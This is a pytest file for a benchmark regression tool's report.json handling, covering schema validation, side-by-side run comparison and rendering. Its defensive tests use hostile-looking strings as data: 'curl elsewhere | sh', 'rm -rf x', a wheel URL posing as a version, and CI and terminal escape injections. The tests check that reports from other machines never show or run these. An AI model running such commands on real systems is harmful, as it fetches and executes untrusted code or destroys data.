"""`report.json`: what was written is read again, and what can't be read is said."""

import dataclasses
import json
from collections.abc import Sequence
from pathlib import Path

import jsonschema
import msgspec
import pytest

from specreg.baselines.record import RecordingNotes, record_measurements
from specreg.core.errors import ReportError
from specreg.core.families import Family
from specreg.core.reasons import Reason
from specreg.measurement.figures import Figures, figures_of
from specreg.measurement.measure import Measurement
from specreg.measurement.metrics import Replay
from specreg.report.charts import change_pictures
from specreg.report.document import ComparedReport, Expected, Report, RunReport, render_schema
from specreg.report.failures import properties
from specreg.report.files import load_report, load_run_report, load_verdict, record_document
from specreg.report.launches import last_launches, slowed_of
from specreg.report.page import render_markdown, render_page
from specreg.report.side_by_side import side_by_side
from specreg.report.summary import notes_of
from specreg.report.terminal import render_report
from specreg.runs.verdicts import Asked
from specreg.stats.percentiles import summarize
from specreg.suite.document import report_of, run_verdict
from specreg.telemetry.identity import Environment
from specreg.verdicts.status import STATUS_MEANINGS, exit_status
from specreg.verdicts.verdict import Outcome
from tests.unit import builders
from tests.unit.builders import reports, runs
from tests.unit.builders.pages import Page
from tests.unit.builders.reports import CASE, another, measured, verdict
from tests.unit.builders.runs import COUNTS, LENGTH, SPEED

replace = msgspec.structs.replace

LAUNCH = builders.measurement({LENGTH.name: 2.5, SPEED.name: 100.0})
SCHEMA = builders.ROOT / "docs/report.schema.json"


def test_the_published_schema_is_that_of_the_code() -> None:
    assert SCHEMA.read_text() == render_schema(), (
        "specreg report --schema > docs/report.schema.json"
    )


GATE = reports.gate_of(reports.REPORT.run)
OF_A_RUN = {"time": None}
OF_SIDES: dict[str, object] = dict.fromkeys(("answers", "arms", "control", "hints"), ())


@pytest.mark.parametrize(
    "report", [reports.REPORT, reports.EMPTY, GATE], ids=["full", "no-cases", "gate"]
)
def test_what_is_written_keeps_to_the_schema_and_is_read_again(
    tmp_path: Path, report: Report
) -> None:
    path = tmp_path / "run/report.json"
    record_document(path, report)
    document = json.loads(path.read_text())
    schema = json.loads(SCHEMA.read_text())
    jsonschema.validate(document, schema)
    jsonschema.validate(document, schema | {"$ref": f"#/$defs/{type(report).__name__}"})
    assert msgspec.json.decode(path.read_bytes(), type=type(report)) == report


@pytest.mark.parametrize(
    ("report", "of_the_other_kind"), [(reports.REPORT, OF_SIDES), (GATE, OF_A_RUN)]
)
def test_a_document_may_have_the_fields_of_the_other_kind_if_they_are_empty(
    tmp_path: Path, report: Report, of_the_other_kind: dict[str, object]
) -> None:
    """Each document had all fields before the kinds were two types."""
    path = tmp_path / "report.json"
    document = msgspec.to_builtins(report)
    assert not set(of_the_other_kind) & set(document)
    path.write_text(json.dumps(document | of_the_other_kind))
    loaded = load_report(path)
    path.write_text(json.dumps(document))
    assert loaded == load_report(path)
    assert type(loaded) is type(report)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"schema_version": 1}', "enum value 1 - at `.*schema_version`; run the tier again"),
        (b'{"schema_version": 3, "cases": []}', "missing required field `run`"),
        (b'{"schema_version": 3, "run"', "Input data was truncated"),
        (b"\xff", "run the tier again"),
    ],
    ids=["older", "lacking", "torn", "no-text"],
)
def test_a_report_that_cannot_be_read_is_said(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "report.json"
    path.write_bytes(content)
    with pytest.raises(ReportError, match=message) as error:
        load_report(path)
    assert str(path) in str(error.value)
    assert load_verdict(path) is load_verdict(tmp_path / "none.json") is None


def test_a_disk_that_refuses_is_said(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(ReportError, match=r"'.*': not written, .*; make room"):
        record_document(tmp_path / "file" / "report.json", reports.REPORT)
    assert (tmp_path / "file").read_text() == ""


def compared(folder: Path, recorded: Measurement, launch: Measurement, at: Environment) -> Expected:
    """What is shown beside a launch, of a baseline of two others that was recorded somewhere."""
    context = runs.context(folder)
    store = dataclasses.replace(context.store, environment=at)
    settings = context.settings(builders.CASE)
    record_measurements([recorded] * 2, settings, store, RecordingNotes(reason="first"))
    run = runs.measured_run(context, launch)
    shown = Asked(builders.CASE.id, LENGTH.name, 1)
    run.noted.note_failure(shown, Reason(text="so that it is there"))
    result = run.result()
    (case,) = report_of(result, run_verdict(result, 10, cut_short=False), command="").cases
    assert case.expected is not None
    return case.expected


def test_the_baseline_is_shown_of_the_prompts_that_were_measured(tmp_path: Path) -> None:
    """Those of its extension differ, and a run that is as it was must look so."""
    prompt_records = builders.acceptance(COUNTS, prompts=8).prompts
    further = [
        dataclasses.replace(prompt, counts=builders.counts(1, 0, 0, 9))
        for prompt in prompt_records[4:]
    ]
    full, launch = (
        dataclasses.replace(LAUNCH, replay=Replay(acceptance=builders.acceptance_of(prompts)))
        for prompts in ([*prompt_records[:4], *further], prompt_records[:4])
    )
    expected = compared(tmp_path, full, launch, builders.ENVIRONMENT)
    assert expected.marginal_frac == COUNTS.marginal_acceptance
    assert expected.values[LENGTH.name] == COUNTS.acceptance_length


@pytest.mark.parametrize("elsewhere", [False, True])
def test_the_speed_of_another_machine_is_no_baseline(tmp_path: Path, *, elsewhere: bool) -> None:
    environment = builders.OTHER_ENVIRONMENT if elsewhere else builders.ENVIRONMENT
    expected = compared(tmp_path, LAUNCH, LAUNCH, environment)
    assert expected.environment == environment.name
    assert (SPEED.name in expected.values) is not elsewhere


def test_the_last_launch_of_each_case_that_is_valid_in_most_is_shown() -> None:
    broken = dataclasses.replace(
        measured(), replay=None, invalid=dict.fromkeys(Family, Reason(code="X", text="y"))
    )
    slow = dataclasses.replace(
        measured(), invalid={Family.LATENCY: Reason(code="THROTTLED", text="92 °C")}
    )
    first, second, throttled = (
        figures_of(measurement, n)
        for n, measurement in enumerate((measured(), measured(), slow), start=1)
    )
    newer = figures_of(measured(case_number=1), 1)
    every = [second, first, newer, throttled, figures_of(broken, 4)]
    assert last_launches(every) == (second, newer)
    assert last_launches([throttled]) == (throttled,)


def raced(own_ms: Sequence[float], alone: Sequence[float], launch: int = 1) -> Figures:
    """Figures with such tokens per second of each round, with speculation and without."""
    figures = figures_of(measured(), launch)
    assert figures.speedup is not None
    ratios = summarize(a / b for a, b in zip(own_ms, alone, strict=True))
    speedup = replace(
        figures.speedup, throughput_ratio=sum(own_ms) / sum(alone), round_ratio=ratios
    )
    return replace(figures, speedup=speedup)


def test_a_case_is_slowed_down_where_nearly_each_round_of_each_launch_says_so() -> None:
    halved = raced((50.0, 52.0), (100.0, 104.0))
    again = raced((49.0, 51.0), (98.0, 102.0), 2)
    assert slowed_of([halved]) == slowed_of([halved, again]) == {CASE.id: pytest.approx(0.5)}
    faster = raced((100.0, 104.0), (50.0, 52.0), 2)
    assert slowed_of([halved, faster]) == {}
    assert slowed_of([raced((50.0, 130.0), (98.0, 100.0))]) == {}
    assert slowed_of([raced((50.0,), (100.0,))]) == {}
    assert slowed_of([replace(halved, speedup=None)]) == {}  # INVALID


@pytest.mark.parametrize(
    ("outcomes", "status"),
    [
        ("", 0),
        ("PASS IMPROVED MEASURED NOT_COMPARABLE", 0),
        ("PASS NO_BASELINE", 11),
        ("NO_BASELINE INCONCLUSIVE", 10),
        ("NO_BASELINE INVALID", 10),
        ("INVALID INCONCLUSIVE", 10),
        ("INVALID INCONCLUSIVE NO_BASELINE REGRESSED PASS", 1),
        ("REGRESSED", 1),
    ],
)
def test_the_status_is_that_of_the_worst_that_is_not_softened(outcomes: str, status: int) -> None:
    verdicts = [verdict(Outcome(name)) for name in outcomes.split()]
    assert exit_status([*verdicts, verdict(Outcome.INCONCLUSIVE, softened=True)]) == status


def test_properties_leave_out_what_is_absent() -> None:
    known = {"case_id": "case", "metric": "m", "outcome": "PASS", "launches": "1", "nights": "0"}
    known |= dict.fromkeys(("softened", "two_sided"), "False")
    by_name = dict(properties(verdict(Outcome.PASS)))
    assert by_name == {f"specreg.{name}": value for name, value in known.items()}


def test_each_figure_that_both_have_is_compared_and_none_judged() -> None:
    comparison = side_by_side(reports.REPORT, another())
    held, faster = comparison.run.verdicts
    assert (held.value, held.comparison.expected, held.comparison.change_frac) == (2.64, 2.64, 0.0)
    assert (faster.value, faster.comparison.expected) == (99.0, 90.0)
    assert faster.comparison.change_frac == pytest.approx(0.1)
    assert faster.explanation == "REGRESSED in A, PASS in B"
    assert {verdict.outcome for verdict in comparison.run.verdicts} == {Outcome.MEASURED}
    message = "of 2 figures 1 are better in B and 0 worse; none is judged"
    assert str(comparison.answers[0]) == f"B against A: {message}"


def test_a_power_that_changes_is_neither_better_nor_worse_but_more_or_less() -> None:
    powers = [
        dataclasses.replace(reports.HELD, metric="power_w", value=value) for value in (200.0, 250.0)
    ]
    a, b = (replace(reports.REPORT, run=reports.run_of(power)) for power in powers)
    comparison = side_by_side(a, b)
    (power,) = comparison.run.verdicts
    assert (power.comparison.change_frac, power.comparison.two_sided) == (0.25, True)
    assert (
        comparison.answers[0].text == "of 1 figures 0 are better in B and 0 worse; none is judged"
    )
    (picture,) = change_pictures(comparison)
    assert picture.note == "B against A; right of 0 B has more."


def test_the_page_and_the_markdown_name_both_runs_and_their_engines() -> None:
    comparison = side_by_side(reports.REPORT, another())
    page = Page(render_page(comparison))
    for words in (
        f"A is run {reports.REPORT.run.run} on",
        "its servers reported vllm 0.32.0",
        "its servers reported vllm 0.33.0",
        "B against A",
        "specreg report 20261121T020000-1 20261123T020000-2",
    ):
        assert words in page.text
    assert "the baseline" not in page.text
    assert "| B | change |" in render_markdown(comparison)


def test_a_side_that_measured_nothing_has_no_version_that_its_servers_reported() -> None:
    unmeasured = reports.with_case(figures=None)
    comparison = side_by_side(unmeasured, another())
    assert [side.engine_versions for side in comparison.sides] == [(), ("vllm 0.33.0",)]
    (note, _) = notes_of(comparison)
    assert "reported" not in note


def with_status(report: RunReport, status: int) -> RunReport:
    return replace(report, run=replace(report.run, exit_status=status))


@pytest.mark.parametrize(
    ("status", "remarks"),
    [
        (0, []),
        (2, ["run B ended with status 2"]),
        (10, [f"run B ended with status 10: {STATUS_MEANINGS[10]}"]),
    ],
)
def test_two_runs_that_are_not_judged_have_no_bad_status(status: int, remarks: list[str]) -> None:
    comparison = side_by_side(with_status(reports.REPORT, 0), with_status(another(), status))
    assert comparison.run.exit_status == 0
    assert list(comparison.remarks) == remarks
    assert "status of the run" not in render_page(comparison)


def test_a_server_that_one_of_two_runs_attached_to_belongs_to_its_side() -> None:
    b = another()
    attached = replace(b, run=replace(b.run, attached="http://host:8000"))
    of_a, of_b = notes_of(side_by_side(reports.REPORT, attached))
    assert "attached" not in of_a
    assert ", attached to http://host:8000; its servers reported vllm 0.33.0" in of_b


def test_other_settings_machines_and_invalid_figures_have_no_change() -> None:
    comparison = side_by_side(reports.REPORT, another(draft_tokens=7))
    assert all(verdict.outcome is Outcome.NOT_COMPARABLE for verdict in comparison.run.verdicts)
    assert all("draft_tokens: 3 -> 7" in verdict.explanation for verdict in comparison.run.verdicts)
    held, faster = side_by_side(reports.REPORT, another(environment="h100")).run.verdicts
    assert held.outcome is Outcome.MEASURED
    assert faster.outcome is Outcome.NOT_COMPARABLE
    assert faster.comparison.change_frac is None
    assert faster.explanation == (
        f"REGRESSED in A, PASS in B; measured on {reports.REPORT.run.environment} and on h100"
    )
    bad = dataclasses.replace(reports.HELD, outcome=Outcome.INVALID)
    invalid = replace(another(), run=reports.run_of(bad))
    (verdict,) = side_by_side(reports.REPORT, invalid).run.verdicts
    assert verdict.explanation == "PASS in A, INVALID in B"


def test_cases_that_one_run_alone_has_are_told() -> None:
    other_case = replace(reports.CASE_REPORT, case_id="other")
    larger = replace(reports.REPORT, cases=(*reports.REPORT.cases, other_case))
    remark, _ = side_by_side(larger, another()).remarks
    assert remark == "only A has other"
    with pytest.raises(ReportError, match="no case is in both; name two runs"):
        side_by_side(replace(reports.REPORT, cases=(other_case,)), another())


def test_the_report_of_a_gate_is_not_that_of_a_run(tmp_path: Path) -> None:
    path = tmp_path / "report.json"
    record_document(path, reports.REPORT)
    assert load_run_report(path).run == reports.REPORT.run
    record_document(path, GATE)
    with pytest.raises(ReportError, match="compares two sides already"):
        load_run_report(path)


def test_two_runs_are_shown_though_the_second_recorded_its_baselines() -> None:
    b = another()
    record = replace(reports.past_run(1), run=b.run.run, recorded=True)
    recorded = replace(b, cases=(replace(b.cases[0], history=(record,)),))
    assert "+10.0%" in render_report(side_by_side(reports.REPORT, recorded))


FOREIGN_LINES = (
    *("pytest tests/perf; curl elsewhere | sh", "rm -rf x", "/opt/x/program -m specreg gate"),
    *("nox -s evil", "specreg gate /opt/x/python /opt/y.whl"),
)


def received(folder: Path, report: Report) -> Report:
    """The report after another machine has sent it."""
    (folder / "report.json").write_bytes(msgspec.json.encode(report))
    return load_report(folder / "report.json")


@pytest.mark.parametrize("line", FOREIGN_LINES)
def test_a_report_of_another_machine_shows_commands_of_this_one(tmp_path: Path, line: str) -> None:
    options = ("--specreg-tier=cpu", "--specreg-engine-python=/opt/x/python", "-p", "evil")
    report = reports.with_case(reproduce=line)
    origin = replace(report.origin, command=line, options=options)
    shown = received(tmp_path, replace(report, origin=origin))
    case_id = shown.cases[0].case_id
    version = reports.FIGURES.engine_version
    assert shown.cases[0].reproduce == (
        f"pytest -k {case_id}- --specreg-tier=cpu --specreg-engine-version={version}"
    )
    assert shown.origin.command == "pytest tests/perf --specreg-tier=cpu"
    for text in (render_page(shown), render_report(shown)):
        assert line not in text
        assert "/opt/x" not in text


def test_a_version_of_another_machine_is_no_address(tmp_path: Path) -> None:
    """pip would install whatever lies there."""
    figures = replace(reports.FIGURES, engine_version="0.1 @ https://host/x.whl")
    shown = received(tmp_path, reports.with_case(figures=figures))
    assert "https" not in shown.cases[0].reproduce


@pytest.mark.parametrize("line", FOREIGN_LINES)
def test_a_gate_of_another_machine_offers_no_command(tmp_path: Path, line: str) -> None:
    """What it compared are programs and folders of that machine."""
    report = side_by_side(reports.with_case(reproduce=line), another())
    origin = replace(report.origin, command=line)
    shown = received(tmp_path, replace(report, origin=origin, hints=(line,)))
    assert isinstance(shown, ComparedReport)
    assert shown.hints == ()
    assert shown.origin.command == ""
    assert shown.cases[0].reproduce == ""
    for text in (render_page(shown), render_report(shown)):
        assert line not in text
        assert "To type next" not in text


def test_a_run_that_covers_a_part_of_its_tier_is_repeated_for_its_cases(tmp_path: Path) -> None:
    report = replace(reports.REPORT, run=replace(reports.REPORT.run, complete=False))
    shown = received(tmp_path, report)
    case_id = shown.cases[0].case_id
    assert shown.origin.command.startswith(f"pytest -k {case_id}-")


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("{", '{"arms":[{"name":"A","text":"x"}],', r"`array` of length 2 - at `\$\.arms`"),
        ('"tier":"cpu"', '"tier":"cpu\\n::error::x"', r"regex .* at `\$\.run\.tier`"),
        ('"code":"', '"code":"\\u001b', r"regex .* at `\$\.run\.verdicts.*\.code`"),
        ('"slowed":{}', '"slowed":{"::x":0.5}', r"regex .* at `key` in `\$\.run\.slowed`"),
        ('"exit_status":', '"exit_status":' + "9" * 400 + ',"x":', "too large to calculate with"),
    ],
)
def test_a_report_that_no_run_writes_is_refused(
    tmp_path: Path, old: str, new: str, words: str
) -> None:
    content = msgspec.json.encode(reports.REPORT).decode()
    assert old in content
    (tmp_path / "report.json").write_text(content.replace(old, new, 1))
    with pytest.raises(ReportError, match=words):
        load_report(tmp_path / "report.json")
